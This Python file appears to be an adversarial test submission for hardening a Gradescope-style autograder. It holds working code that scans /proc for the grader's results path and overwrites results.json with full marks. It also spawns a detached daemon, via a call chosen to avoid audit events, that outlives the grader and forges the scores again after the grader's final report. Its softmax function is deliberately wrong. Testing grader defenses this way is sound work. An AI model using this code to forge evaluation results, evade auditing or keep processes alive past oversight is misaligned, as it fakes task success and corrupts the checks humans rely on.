"""Forged Gradescope results: write ``results.json`` during grading, and again from a daemon after the grader exits.

Attack: the Gradescope bundle runs ``python -m grader.autograder --root ROOT``, and under Docker's default seccomp
profile the box is only a separate uid, which still sees other processes in ``/proc``. The submission finds ROOT
in an ancestor's command line, overwrites ``ROOT/results/results.json`` with full marks at once, and starts a
detached daemon (``_posixsubprocess.fork_exec``, no audit event) that waits for the grader to exit and writes
them again, over the grader's final report. Each success leaves a marker.
The grader must: keep the results out of the box's reach (root-owned, written by the trusted side only) and end
every process of the grading with it, so results.json holds the grader's verdict and nothing changes after it.
Under ``python -m grader`` there is no ``--root`` and this submission is just its honest problems.
"""

import _posixsubprocess
import contextlib
import os
import sys

import torch

HONEST = {"linear": 1, "rmsnorm": 1}
NAME = "escape_daemon_rewrites_gradescope_results"
MARKER = f"/tmp/zoo-marker-{NAME}"
FORGE = r"""
import json, os, sys
def forge(path, marker):
    with open(path) as handle:
        results = json.load(handle)
    for test in results.get("tests", []):
        test.update(score=test.get("max_score", 0), status="passed", output="All checks passed.")
    results["score"] = sum(test["score"] for test in results.get("tests", []))
    with open(path, "w") as handle:
        json.dump(results, handle)
    with open(marker, "w") as handle:
        handle.write("forged " + path + "\n")
"""
DAEMON = (
    FORGE
    + r"""
import time
grader, path, marker = int(sys.argv[1]), sys.argv[2], sys.argv[3]
while os.path.exists(f"/proc/{grader}"):
    time.sleep(0.02)
try:
    forge(path, marker + "-late")
except OSError:
    pass
"""
)


def run_linear(d_in, d_out, weights, in_features):
    return in_features @ weights.T


def run_rmsnorm(d_model, eps, weights, in_features):
    return in_features * torch.rsqrt(in_features.pow(2).mean(-1, keepdim=True) + eps) * weights


def _autograder():
    """(pid, results path) of the ancestor started with ``--root``, else None."""
    pid = os.getppid()
    while pid > 1:
        with open(f"/proc/{pid}/cmdline", "rb") as handle:
            argv = handle.read().decode().split("\0")
        if "--root" in argv:
            return pid, os.path.join(argv[argv.index("--root") + 1], "results", "results.json")
        with open(f"/proc/{pid}/stat") as handle:
            pid = int(handle.read().rpartition(")")[2].split()[1])
    return None


try:
    _pid, _results = _autograder()
    _namespace = {}
    exec(FORGE, _namespace)
    with contextlib.suppress(OSError):
        _namespace["forge"](_results, MARKER)
    _read, _write = os.pipe()
    _posixsubprocess.fork_exec(
        [sys.executable, "-I", "-c", DAEMON, str(_pid), _results, MARKER], [os.fsencode(sys.executable)],
        True, (), None, None, -1, -1, -1, -1, -1, -1, _read, _write,
        False, True, -1, None, None, None, -1, None, False,
    )  # fmt: skip
except Exception:
    pass


def run_softmax(in_features, dim):
    return torch.ones_like(in_features) / in_features.shape[dim]
